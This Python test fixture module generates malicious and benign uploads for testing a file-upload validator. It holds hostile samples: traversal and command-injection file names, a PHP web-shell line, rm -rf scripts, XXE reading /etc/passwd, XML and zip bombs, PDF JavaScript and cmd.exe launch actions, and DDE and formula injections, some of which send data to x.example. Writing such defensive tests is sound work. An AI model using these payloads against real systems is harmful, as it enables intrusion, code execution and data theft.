"""Hostile files and their good neighbours, made when they are asked for. All words in them are made up."""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass

from PIL import Image

from tests import files

MIB = 1 << 20


Make = Callable[[], bytes]


@dataclass(frozen=True, slots=True)
class Sent:
    """One file as somebody sends it. `kept` is the media type it is kept as; blank: it is refused."""

    label: str
    name: str
    make: Make
    kept: str = ""
    why: str = ""  # words that the refusal holds


PDF, PNG, JPEG, CSV = "application/pdf", "image/png", "image/jpeg", "text/csv"
WORD = "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
EXCEL = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _as_is(content: bytes) -> Make:
    return lambda: content


def good_pdf() -> bytes:
    return files.pdf([["Alarm tests of Rowan ward.", "All alarms rang."]])


def good_docx() -> bytes:
    return files.word(lambda document: document.add_paragraph("All alarms rang."))


def good_xlsx() -> bytes:
    return files.workbook({"Audit": [["Ward", "Alarms", "Answered"], ["Rowan", 12, 11], ["Elm", 9, 9]]})


def good_csv() -> bytes:
    return b'Ward,Alarms,Answered\r\nRowan,12,11\r\nElm,9,-1\r\nBirch,"+44 20 7946 0000",- none\r\n'


def picture(kind: str, size: tuple[int, int] = (64, 48), **how: object) -> bytes:
    out = io.BytesIO()
    Image.new("RGB", size, (20, 90, 80)).save(out, kind, **how)
    return out.getvalue()


def good_png() -> bytes:
    return picture("PNG")


def good_jpeg() -> bytes:
    return picture("JPEG")


def acting_pdf(catalogue: bytes = b"", *objects: bytes, page: bytes = b"") -> bytes:
    """A PDF whose catalogue or page does something."""
    return files.raw_pdf(
        [
            b"<</Type/Catalog/Pages 2 0 R" + catalogue + b">>",
            b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
            b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]" + page + b">>",
            *objects,
        ]
    )


def object_stream(
    inner: bytes, *, packed: bytes | None = None, extra: bytes = b"/Filter/FlateDecode"
) -> bytes:
    """A stream that holds one object of its own, numbered 9."""
    head = b"9 0 "
    data = zlib.compress(head + inner) if packed is None else packed
    return b"<</Type/ObjStm/N 1/First %d%s/Length %d>>stream\n%s\nendstream" % (
        len(head),
        extra,
        len(data),
        data,
    )


def png_chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def png_of(width: int, height: int, data: bytes = b"") -> bytes:
    """A PNG that says it is this large, whatever it holds."""
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    packed = data or zlib.compress(b"\0" * 1000)
    return (
        b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", head) + png_chunk(b"IDAT", packed) + png_chunk(b"IEND", b"")
    )


def archive(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name, content in parts.items():
            new.writestr(name, content)
    return out.getvalue()


def grown(base: bytes, part: str, size: int) -> bytes:
    """The archive with a part that unpacks to so many blanks."""
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(base)) as old, zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as new:
        for name in old.namelist():
            if name != part:
                new.writestr(name, old.read(name))
        with new.open(part, "w", force_zip64=True) as growing:
            for _ in range(size // MIB):
                growing.write(b" " * MIB)
    return out.getvalue()


def relation(kind: str, target: str, *, external: bool = True) -> bytes:
    mode = ' TargetMode="External"' if external else ""
    base = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    return (
        '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
        f'<Relationship Id="rId99" Type="{base}/{kind}" Target="{target}"{mode}/></Relationships>'
    ).encode()


def docx_with(part: str, content: bytes) -> bytes:
    return files.with_parts(good_docx(), {part: content})


def xlsx_with(part: str, content: bytes) -> bytes:
    return files.with_parts(good_xlsx(), {part: content})


def docx_field(instruction: str) -> bytes:
    field = (
        '<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>'
        f"<w:r><w:instrText>{instruction}</w:instrText></w:r>"
        '<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>'
    ).encode()
    return files.reset_words(good_docx(), "word/document.xml", b"<w:body>", b"<w:body>" + field)


def xlsx_formula(formula: str) -> bytes:
    return files.workbook({"Audit": [["Ward", "Alarms"], ["Rowan", formula]]})


def laughs() -> bytes:
    entities = b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 20) for n in range(12))
    return b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "ha">' + entities + b"]><x>&m;</x>"


OUTSIDE = b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY f SYSTEM "file:///etc/passwd">]><x>&f;</x>'
_GOOD: tuple[tuple[str, Callable[[], bytes], str], ...] = (
    ("pdf", good_pdf, PDF),
    ("png", good_png, PNG),
    ("jpg", good_jpeg, JPEG),
    ("csv", good_csv, CSV),
    ("docx", good_docx, WORD),
    ("xlsx", good_xlsx, EXCEL),
)
ODD_NAMES = (
    "../../etc/passwd",
    "..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "C:\\Users\\x\\audit.pdf",
    "/absolute/audit.pdf",
    "audit\u202efdp.exe",
    "audit.pdf\x00.exe",
    "audit.pdf.exe",
    "a" * 500 + ".pdf",
    "é" * 300 + ".pdf",
    ".htaccess",
    "...",
    "",
    "con.pdf",
    'audit".pdf',
    "audit\r\nSet-Cookie: x=1.pdf",
    "<script>alert(1)</script>.pdf",
    "audit;rm -rf ~.pdf",
    "%2e%2e%2fetc%2fpasswd",
    "\u200b\u2066audit\u2069.pdf",
    "audit.svg",
)


def sent() -> Iterator[Sent]:
    """Every file, good ones among them: a check that refuses all would be no check."""
    for ending, make, kept in _GOOD:
        yield Sent(f"good {ending}", f"audit.{ending}", make, kept)
        yield Sent(f"good {ending} under another ending", "audit.exe", make, kept)
        yield from _broken(ending, make)
    for number, name in enumerate(ODD_NAMES, start=1):
        yield Sent(f"odd name {number}", name, good_pdf, PDF)
    yield from _empty_and_foreign()
    yield from _pdfs()
    yield from _pictures()
    yield from _tables()
    yield from _offices()
    yield from _large()


def _broken(ending: str, make: Callable[[], bytes]) -> Iterator[Sent]:
    name = f"audit.{ending}"
    if ending != "csv":
        yield Sent(f"{ending} cut in half", name, lambda: make()[: len(make()) // 2], "", "")
        yield Sent(f"{ending} without its last bytes", name, lambda: make()[:-40], "", "")
        yield Sent(f"{ending} of its first 20 bytes", name, lambda: make()[:20], "", "")
        yield Sent(f"{ending} with zeros in its middle", name, lambda: _zeroed(make()), "", "")
        yield Sent(f"{ending} with an archive at its end", name, lambda: make() + archive({"a.txt": b"x"}))
        yield Sent(f"{ending} with a web page before it", name, lambda: b"<html><script>x</script>" + make())
        yield Sent(f"{ending} with a page behind it", name, lambda: make() + b"<html>" + b"<p>x" * 600)
    yield Sent(
        f"{ending} behind blanks", name, lambda: b" \r\n\t" * 9 + make(), CSV if ending == "csv" else ""
    )


def _zeroed(content: bytes) -> bytes:
    middle = len(content) // 4
    return content[:middle] + bytes(len(content) // 2) + content[middle + len(content) // 2 :]


def _empty_and_foreign() -> Iterator[Sent]:
    for label, content in (
        ("zero bytes", b""),
        ("one zero", b"\0"),
        ("zeros only", bytes(10_000)),
        ("blanks only", b" \r\n" * 500),
        ("a byte order mark only", b"\xef\xbb\xbf"),
    ):
        yield Sent(label, "audit.csv", _as_is(content), "", "empty")
    for label, head in (
        ("Windows program", b"MZ\x90\x00" + bytes(range(256)) * 8),
        ("Linux program", b"\x7fELF\x02\x01\x01" + bytes(range(256)) * 8),
        ("GIF", b"GIF89a" + bytes(range(256)) * 4),
        ("TIFF", b"II*\x00" + bytes(range(256)) * 4),
        ("WebP", b"RIFF\x00\x10\x00\x00WEBPVP8 " + bytes(range(256)) * 4),
        ("gzip", b"\x1f\x8b\x08\x00" + bytes(range(256)) * 4),
        ("7-Zip", b"7z\xbc\xaf'\x1c" + bytes(range(256)) * 4),
        ("RAR", b"Rar!\x1a\x07" + bytes(range(256)) * 4),
        (
            "old Word file",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "WordDocument".encode("utf-16-le") + bytes(2000),
        ),
        (
            "encrypted Office file",
            b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + "EncryptedPackage".encode("utf-16-le"),
        ),
        ("RTF", rb"{\rtf1\ansi{\object\objocx d0cf11e0}}"),
        ("PostScript", b"%!PS-Adobe-3.0\n(x) run\n"),
        ("SQLite", b"SQLite format 3\x00" + bytes(200)),
        ("Java class", b"\xca\xfe\xba\xbe\x00\x00\x00\x34" + bytes(range(256))),
        ("noise", bytes((7 * n * n + 13 * n) % 251 for n in range(5000))),
        ("web page", b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"),
        ("drawing", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
        ("XML", b'<?xml version="1.0"?><a><b>1</b></a>'),
        ("XML that grows", laughs()),
        ("PHP", b"<?php system($_GET['x']); ?>\n,a,b\n"),
        ("shell script", b"#!/bin/sh\nrm -rf /,a,b\n1,2,3\n4,5,6\n"),
        ("batch file", b"@echo off\r\ndel *.*,a,b\r\n1,2,3\r\n"),
        ("mail", b"From: a@example.org\r\nSubject: x,y,z\r\nTo: b,c,d\r\n"),
        ("Internet shortcut", b"[InternetShortcut]\r\nURL=file:///x\r\n"),
        ("JSON", b'{"ward": "Rowan", "alarms": 12}'),
        ("plain words", b"All alarms rang on Rowan ward. Nobody was harmed."),
    ):
        yield Sent(f"{label} as PDF", "audit.pdf", _as_is(head))
    yield Sent(
        "web page that calls itself CSV", "audit.csv", lambda: b"a,b,c\n1,<script>x</script>,3\n4,5,6\n"
    )
    yield Sent("web page in UTF-16", "audit.csv", lambda: "<html><script>x</script>".encode("utf-16"))


def _pdfs() -> Iterator[Sent]:
    script = b"/OpenAction<</S/JavaScript/JS(app.alert(1))>>"
    hidden = b"<</S/#4aavaScript/J#53(app.alert(1))>>"
    plain_script = b"<</S/JavaScript/JS(app.alert(1))>>"
    rich = b"/Annots[<</Type/Annot/Subtype/RichMedia/Rect[0 0 9 9]>>]"
    attached = b"/Annots[<</Type/Annot/Subtype/FileAttachment/Rect[0 0 9 9]/FS<</F(x.exe)/EF<</F 4 0 R>>>>>>]"
    launching = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/Launch/F(cmd.exe)>>>>]"
    remote = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/GoToR/F(other.pdf)/D[0/Fit]>>>>]"
    sends = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/SubmitForm/F(https://x.example)>>>>]"
    rows: tuple[tuple[str, Callable[[], bytes], str], ...] = (
        ("script on opening", lambda: acting_pdf(script), "JavaScript"),
        ("script under an escaped name", lambda: acting_pdf(b"/OpenAction 4 0 R", hidden), "JavaScript"),
        ("script in an object stream", lambda: acting_pdf(b"", object_stream(plain_script)), "JavaScript"),
        (
            "script in an object stream with a hidden name",
            lambda: acting_pdf(b"", object_stream(hidden).replace(b"/ObjStm", b"/Obj#53tm")),
            "JavaScript",
        ),
        (
            "script in an object stream packed as text",
            lambda: acting_pdf(
                b"",
                object_stream(
                    b"",
                    packed=(b"9 0 " + plain_script).hex().encode() + b">",
                    extra=b"/Filter/ASCIIHexDecode",
                ),
            ),
            "hides",
        ),
        (
            "object stream behind a comment that looks like a stream",
            lambda: acting_pdf(b"", object_stream(plain_script).replace(b"/N 1", b"%stream\n/N 1")),
            "",
        ),
        (
            "object stream behind a comment that looks like an object",
            lambda: acting_pdf(b"", object_stream(plain_script).replace(b"/N 1", b"%7 0 obj\n/N 1")),
            "JavaScript",
        ),
        (
            "object stream that is no stream",
            lambda: acting_pdf(b"", object_stream(b"", packed=b"junk")),
            "damaged",
        ),
        (
            "object stream that grows",
            lambda: acting_pdf(
                b"", object_stream(b"", packed=zlib.compress(b"9 0 " + b" " * (160 * MIB), 9))
            ),
            "harm",
        ),
        (
            "object stream packed ten times over",
            lambda: acting_pdf(
                b"", object_stream(plain_script, extra=b"/Filter[" + b"/FlateDecode " * 10 + b"]")
            ),
            "harm",
        ),
        (
            "names of scripts",
            lambda: acting_pdf(b"/Names<</JavaScript<</Names[(a) 4 0 R]>>>>", plain_script),
            "",
        ),
        ("program that is started", lambda: acting_pdf(page=launching), "starts programs"),
        ("link into another file", lambda: acting_pdf(page=remote), "links to other files"),
        ("form that sends data", lambda: acting_pdf(page=sends), "sends data"),
        ("film", lambda: acting_pdf(page=rich), "film"),
        ("file in an annotation", lambda: acting_pdf(b"", files.stream(b"x"), page=attached), "files inside"),
        (
            "file inside",
            lambda: acting_pdf(
                b"/Names<</EmbeddedFiles<</Names[(x)<</F(x.exe)/EF<</F 4 0 R>>>>]>>>>",
                files.stream(b"MZ", extra=b"/Type/EmbeddedFile"),
            ),
            "files inside",
        ),
        ("XFA form", lambda: acting_pdf(b"/AcroForm<</XFA 4 0 R>>", files.stream(laughs())), "XFA"),
        ("password", lambda: files.pdf([["Alarm tests."]], password="rowan"), "encrypted"),
        (
            "no pages",
            lambda: files.raw_pdf([b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[]/Count 0>>"]),
            "",
        ),
        (
            "pages that hold each other",
            lambda: files.raw_pdf(
                [b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Kids[2 0 R 2 0 R]/Count 99>>"]
            ),
            "",
        ),
        (
            "web page that begins as a PDF",
            lambda: b"%PDF-1.4\n<html><script>alert(1)</script></html>\n%%EOF",
            "",
        ),
        ("PDF with no end", lambda: good_pdf().replace(b"%%EOF", b"%%EO"), "cut off"),
        ("header alone", lambda: b"%PDF-1.7\n%%EOF", ""),
        ("something before its header", lambda: b"GIF89a-ish words\n" + good_pdf(), ""),
        ("two PDFs in one", lambda: good_pdf() + b"\n" * 3 + b"junk" * 400, "more in the file"),
        (
            "2,000 pages",
            lambda: files.raw_pdf(
                [
                    b"<</Type/Catalog/Pages 2 0 R>>",
                    b"<</Type/Pages/Kids[" + b"3 0 R " * 2000 + b"]/Count 2000>>",
                    b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
                ]
            ),
            "pages",
        ),
        (
            "30,000 streams",
            lambda: acting_pdf(b"", *[b"<<>>stream\nx\nendstream"] * 30_000),
            "too many parts",
        ),
    )
    for label, make, why in rows:
        yield Sent(f"PDF: {label}", "audit.pdf", make, "", why)
    link = b"/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(https://trust.example.org)>>>>]"
    yield Sent("PDF: a link to a web page", "audit.pdf", lambda: acting_pdf(page=link), PDF)
    yield Sent(
        "PDF: harmless object stream", "audit.pdf", lambda: acting_pdf(b"", object_stream(b"<</A/B>>")), PDF
    )
    yield Sent("PDF: scanned page", "audit.pdf", lambda: files.scanned_pdf([["Alarm tests."]]), PDF)
    bomb = zlib.compress(b"q Q " * (60 * MIB // 4), 9)
    yield Sent(
        "PDF: page that grows",
        "audit.pdf",
        lambda: acting_pdf(b"", files.stream(bomb, packed=1), page=b"/Contents 4 0 R"),
        "any",
    )
    deep = b"[" * 100_000 + b"]" * 100_000
    yield Sent("PDF: arrays within arrays", "audit.pdf", lambda: acting_pdf(b"/X " + deep), "any")


def _pictures() -> Iterator[Sent]:
    gif = b"GIF89a" + bytes(20)
    rows: tuple[tuple[str, str, Callable[[], bytes], str], ...] = (
        ("PNG of 50,000 by 50,000", "a.png", lambda: png_of(50_000, 50_000), "pixels"),
        ("PNG of no width", "a.png", lambda: png_of(0, 100), ""),
        ("PNG of one long line", "a.png", lambda: png_of(31_000, 1), "pixels"),
        ("PNG with too little inside", "a.png", lambda: png_of(600, 600), "damaged"),
        ("PNG with a false checksum", "a.png", lambda: good_png().replace(b"IHDR", b"IHDX"), ""),
        (
            "PNG with words that grow",
            "a.png",
            lambda: _with_chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"x" * (80 * MIB), 9)),
            "",
        ),
        (
            "PNG with a script in its words",
            "a.png",
            lambda: _with_chunk(b"tEXt", b"c\0<script>x</script>"),
            "more",
        ),
        ("PNG with a page behind it", "a.png", lambda: good_png() + b"<html></html>", "more in the file"),
        (
            "PNG with a Java archive behind it",
            "a.png",
            lambda: good_png() + archive({"A.class": b"x"}),
            "two files",
        ),
        ("PNG that moves", "a.png", _moving_png, "moves"),
        ("JPEG with a page behind it", "a.jpg", lambda: good_jpeg() + b"<html></html>", "more in the file"),
        ("JPEG with an archive behind it", "a.jpg", lambda: good_jpeg() + archive({"a": b"x"}), "two files"),
        (
            "JPEG with PHP in its remark",
            "a.jpg",
            lambda: _with_remark(b"<?php system($x);"),
            "more in the file",
        ),
        ("JPEG that says it is 65,000 wide", "a.jpg", _wide_jpeg, "pixels"),
        ("JPEG of marks only", "a.jpg", lambda: b"\xff\xd8\xff\xe0" + b"\xff" * 5000, ""),
        (
            "JPEG with no scan",
            "a.jpg",
            lambda: b"\xff\xd8\xff\xe0\x00\x10JFIF\0\1\1\0\0\1\0\1\0\0\xff\xd9",
            "",
        ),
        ("GIF that is also a JPEG", "a.jpg", lambda: gif + good_jpeg(), ""),
        ("GIFAR", "a.gif", lambda: gif + archive({"A.class": b"x"}), ""),
    )
    for label, name, make, why in rows:
        yield Sent(label, name, make, "", why)
    yield Sent("JPEG in steps", "a.jpg", lambda: picture("JPEG", progressive=True), JPEG)
    yield Sent("JPEG with a remark", "a.jpg", lambda: _with_remark(b"Rowan ward"), JPEG)
    yield Sent("PNG of 6,000 by 4,000", "a.png", lambda: picture("PNG", (6000, 4000)), PNG)


def _with_chunk(kind: bytes, data: bytes) -> bytes:
    whole = good_png()
    return whole[:33] + png_chunk(kind, data) + whole[33:]


def _with_remark(words: bytes) -> bytes:
    whole = good_jpeg()
    return whole[:2] + b"\xff\xfe" + struct.pack(">H", len(words) + 2) + words + whole[2:]


def _wide_jpeg() -> bytes:
    whole = bytearray(good_jpeg())
    at = whole.index(b"\xff\xc0")
    whole[at + 5 : at + 9] = struct.pack(">HH", 65_000, 65_000)
    return bytes(whole)


def _moving_png() -> bytes:
    out = io.BytesIO()
    frames = [Image.new("RGB", (9, 9), (n * 50, 0, 0)) for n in range(3)]
    frames[0].save(out, "PNG", save_all=True, append_images=frames[1:])
    return out.getvalue()


def _tables() -> Iterator[Sent]:
    for number, cell in enumerate(
        (
            "=1+1",
            "=cmd|' /C calc'!A0",
            "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0",
            '=HYPERLINK("https://x.example?"&A1)',
            "=WEBSERVICE(A1)",
            " =1+1",
            "DDE|x!A1",
            "@IMPORTXML(A1)",
        ),
        start=1,
    ):
        row = cell.replace('"', '""')
        yield Sent(
            f"CSV: formula {number}",
            "audit.csv",
            _as_is(f'Ward,Alarms,Answered\r\nRowan,12,"{row}"\r\nElm,1,2\r\n'.encode()),
            "",
            "formula",
        )
    rows: tuple[tuple[str, Callable[[], bytes], str, str], ...] = (
        ("formula in the header", lambda: b"Ward,=1+1,x\r\nRowan,1,2\r\nElm,3,4\r\n", "", "formula"),
        ("header alone", lambda: b"Ward,Alarms,Answered\r\n", "", "no rows"),
        (
            "cell of 40,000 characters",
            lambda: b"a,b,c\n1,2," + b"x" * 40_000 + b"\n4,5,6\n",
            "",
            "characters",
        ),
        ("600 columns", lambda: (b"a," * 600 + b"b\n") * 3, "", "columns"),
        ("bytes of a program inside", lambda: b"a,b,c\n" + b"MZ\x90\x00\x03\x01\x02" * 900, "", ""),
        ("in UTF-16", lambda: good_csv().decode().encode("utf-16"), CSV, ""),
        (
            "in Windows-1252",
            lambda: "Ward,Notes,x\r\nCaf\u00e9,\u00a35,1\r\nElm,2,3\r\n".encode("cp1252"),
            CSV,
            "",
        ),
        ("with semicolons", lambda: b"Ward;Alarms;Answered\r\nRowan;1;2\r\nElm;3;4\r\n", CSV, ""),
        ("marked as text", lambda: b"Ward,Alarms,x\r\nRowan,'=1+1,2\r\nElm,3,4\r\n", CSV, ""),
        ("quotes that never close", lambda: b'a,b,c\n1,"2,3\n' + b"4,5,6\n" * 2000, "any", ""),
        ("zeros inside", lambda: b"a,b,c\n1,\x002,3\n4,5,6\n7,8,9\n", "any", ""),
        (
            "one line of 3 MiB",
            lambda: b"a,b,c\n" + b"1,2," + b"9" * (3 * MIB) + b"\n1,2,3\n",
            "",
            "characters",
        ),
    )
    for label, make, kept, why in rows:
        yield Sent(f"CSV: {label}", "audit.csv", make, kept, why)


def _offices() -> Iterator[Sent]:
    macro = b"macroEnabled"
    slip = {"../evil.xml": b"<x/>"}
    word: tuple[tuple[str, Callable[[], bytes], str], ...] = (
        ("macros", lambda: docx_with("word/vbaProject.bin", b"x"), "macros"),
        (
            "macro type",
            lambda: files.reset_words(
                good_docx(),
                "[Content_Types].xml",
                b"officedocument.wordprocessingml.document.main",
                b"ms-word.document." + macro + b".main",
            ),
            "macros",
        ),
        (
            "OLE object",
            lambda: docx_with("word/embeddings/oleObject1.bin", b"\xd0\xcf\x11\xe0"),
            "files inside",
        ),
        ("workbook inside", lambda: docx_with("word/embeddings/a.xlsx", good_xlsx()), "files inside"),
        ("archive inside", lambda: docx_with("word/media/a.png", archive({"a": b"x"})), "another file"),
        ("program inside", lambda: docx_with("word/media/a.emf", b"MZ\x90\x00"), "another file"),
        ("ActiveX", lambda: docx_with("word/activeX/activeX1.xml", b"<x/>"), "ActiveX"),
        ("web page part", lambda: docx_with("word/afchunk.htm", b"<html/>"), "files inside"),
        (
            "template from elsewhere",
            lambda: docx_with(
                "word/_rels/settings.xml.rels", relation("attachedTemplate", "https://x.example/a.dotm")
            ),
            "fetches",
        ),
        (
            "picture from elsewhere",
            lambda: docx_with("word/_rels/header9.xml.rels", relation("image", "https://x.example/a.png")),
            "fetches",
        ),
        (
            "frame from elsewhere",
            lambda: docx_with(
                "word/_rels/webSettings.xml.rels", relation("frame", "https://x.example/a.htm")
            ),
            "fetches",
        ),
        (
            "object from a share",
            lambda: docx_with("word/_rels/footer9.xml.rels", relation("oleObject", "file://share/a")),
            "fetches",
        ),
        (
            "link to a file",
            lambda: docx_with("word/_rels/footer9.xml.rels", relation("hyperlink", "file:///c:/x.exe")),
            "does not lead",
        ),
        (
            "link that runs",
            lambda: docx_with(
                "word/_rels/footer9.xml.rels", relation("hyperlink", "ms-msdt:/id PCWDiagnostic")
            ),
            "does not lead",
        ),
        (
            "script link",
            lambda: docx_with("word/_rels/footer9.xml.rels", relation("hyperlink", "javascript:alert(1)")),
            "does not lead",
        ),
        ("DDE field", lambda: docx_field('DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe "/k calc"'), "DDE"),
        ("included text", lambda: docx_field('INCLUDETEXT "https://x.example/a"'), "field"),
        ("included picture", lambda: docx_field('INCLUDEPICTURE "https://x.example/a" \\d'), "field"),
        ("button of macros", lambda: docx_field("MACROBUTTON Run x"), "field"),
        ("entities that grow", lambda: docx_with("word/styles.xml", laughs()), "entities"),
        ("entity from outside", lambda: docx_with("word/document.xml", OUTSIDE), "entities"),
        ("part outside", lambda: files.with_parts(good_docx(), slip), "another place"),
        (
            "part at an absolute place",
            lambda: files.with_parts(good_docx(), {"/etc/x.xml": b"<x/>"}),
            "place",
        ),
        ("part on a drive", lambda: files.with_parts(good_docx(), {"C:\\x.xml": b"<x/>"}), "place"),
        ("part that is a link", _docx_with_link, "points to another place"),
        ("part twice", _docx_with_part_twice, ""),
        ("part with a password", lambda: _flagged(good_docx()), ""),
        (
            "4,000 parts",
            lambda: files.with_parts(good_docx(), {f"word/x{n}.xml": b"<x/>" for n in range(4000)}),
            "parts",
        ),
        ("part of 300 MB", lambda: grown(good_docx(), "word/document.xml", 300 * MIB), "Unpacked"),
        ("part packed tightly", lambda: grown(good_docx(), "word/styles.xml", 60 * MIB), "packed"),
        ("elements within elements", lambda: docx_with("word/document.xml", b"<a>" * 200_000), ""),
        ("no document", lambda: archive({"[Content_Types].xml": b"<Types/>"}), ""),
        ("plain archive", lambda: archive({"audit.pdf": b"%PDF-1.4"}), "archive"),
        ("archive within archive within archive", lambda: archive({"a.zip": archive({"b.zip": b"x"})}), ""),
        (
            "OpenDocument",
            lambda: archive({"mimetype": b"application/vnd.oasis.opendocument.text"}),
            "OpenDocument",
        ),
        ("PowerPoint", lambda: archive({"[Content_Types].xml": b"<x>presentationml</x>"}), "PowerPoint"),
    )
    for label, make, why in word:
        yield Sent(f"DOCX: {label}", "audit.docx", make, "", why)
    sheet: tuple[tuple[str, Callable[[], bytes], str], ...] = (
        ("macros", lambda: xlsx_with("xl/vbaProject.bin", b"x"), "macros"),
        ("old macro sheet", lambda: xlsx_with("xl/macrosheets/sheet1.xml", b"<x/>"), "macros"),
        (
            "links to another workbook",
            lambda: xlsx_with("xl/externalLinks/externalLink1.xml", b"<x/>"),
            "links",
        ),
        ("connections", lambda: xlsx_with("xl/connections.xml", b"<x/>"), "connections"),
        ("query", lambda: xlsx_with("xl/queryTables/queryTable1.xml", b"<x/>"), "connections"),
        ("buttons", lambda: xlsx_with("customUI/customUI.xml", b"<x/>"), "buttons"),
        ("embedded file", lambda: xlsx_with("xl/embeddings/a.bin", b"x"), "files inside"),
        (
            "binary workbook",
            lambda: files.reset_words(
                good_xlsx(), "[Content_Types].xml", b"spreadsheetml.sheet.main", b"ms-excel.sheet.binary.main"
            ),
            "",
        ),
        ("DDE formula", lambda: xlsx_formula("=cmd|'/C calc'!A0"), "formula"),
        ("formula that fetches", lambda: xlsx_formula('=WEBSERVICE("https://x.example/"&A1)'), "formula"),
        ("formula that calls", lambda: xlsx_formula('=CALL("kernel32","WinExec","JCJ","calc",0)'), "formula"),
        ("formula that runs", lambda: xlsx_formula('=EXEC("calc.exe")'), "formula"),
        ("link formula to a share", lambda: xlsx_formula('=HYPERLINK("\\\\share\\x.exe","see")'), "formula"),
        (
            "name that runs on opening",
            lambda: files.reset_words(
                good_xlsx(),
                "xl/workbook.xml",
                b"</sheets>",
                b'</sheets><definedNames><definedName name="Auto_Open">x</definedName></definedNames>',
            ),
            "opened",
        ),
        ("entities that grow", lambda: xlsx_with("xl/sharedStrings.xml", laughs()), "entities"),
        ("entity from outside", lambda: xlsx_with("xl/worksheets/sheet1.xml", OUTSIDE), "entities"),
        ("part outside", lambda: files.with_parts(good_xlsx(), slip), "another place"),
        ("sheet of 300 MB", lambda: grown(good_xlsx(), "xl/worksheets/sheet1.xml", 300 * MIB), "Unpacked"),
        ("no sheets", lambda: xlsx_with("xl/workbook.xml", b"<workbook/>"), ""),
        ("broken XML", lambda: xlsx_with("xl/worksheets/sheet1.xml", b"<worksheet><a"), ""),
        ("a million rows", lambda: _rows_of(1_000_000), ""),
    )
    for label, make, why in sheet:
        yield Sent(f"XLSX: {label}", "audit.xlsx", make, "", why)
    yield Sent("XLSX: sums", "audit.xlsx", lambda: xlsx_formula("=SUM(B1:B1)"), EXCEL)
    yield Sent(
        "DOCX: link to a page",
        "audit.docx",
        lambda: docx_with(
            "word/_rels/footer9.xml.rels", relation("hyperlink", "https://trust.example.org/a?b=1")
        ),
        WORD,
    )


def _rows_of(count: int) -> bytes:
    row = b'<row><c t="inlineStr"><is><t>x</t></is></c></row>'
    content = files.part(good_xlsx(), "xl/worksheets/sheet1.xml")
    start, end = content.index(b"<sheetData>") + 11, content.index(b"</sheetData>")
    return xlsx_with("xl/worksheets/sheet1.xml", content[:start] + row * count + content[end:])


def _docx_with_link() -> bytes:
    out = io.BytesIO(good_docx())
    with zipfile.ZipFile(out, "a") as held:
        link = zipfile.ZipInfo("word/link.xml")
        link.external_attr = 0o120777 << 16
        held.writestr(link, "/etc/passwd")
    return out.getvalue()


def _docx_with_part_twice() -> bytes:
    import warnings

    out = io.BytesIO(good_docx())
    with warnings.catch_warnings(), zipfile.ZipFile(out, "a") as held:
        warnings.simplefilter("ignore")
        held.writestr("word/document.xml", b"<x/>")
    return out.getvalue()


def _flagged(content: bytes) -> bytes:
    """Says of the last part that a password protects it."""
    out = bytearray(content)
    at = out.rindex(b"PK\x01\x02")
    out[at + 8] |= 1
    return bytes(out)


def _large() -> Iterator[Sent]:
    yield Sent("PDF of 21 MiB", "audit.pdf", lambda: b"%PDF-1.7\n" + b"%" * (21 * MIB), "", "limit")
    yield Sent("CSV of 6 MiB", "audit.csv", lambda: b"a,b,c\n" + b"1,2,3\n" * MIB, "", "limit")
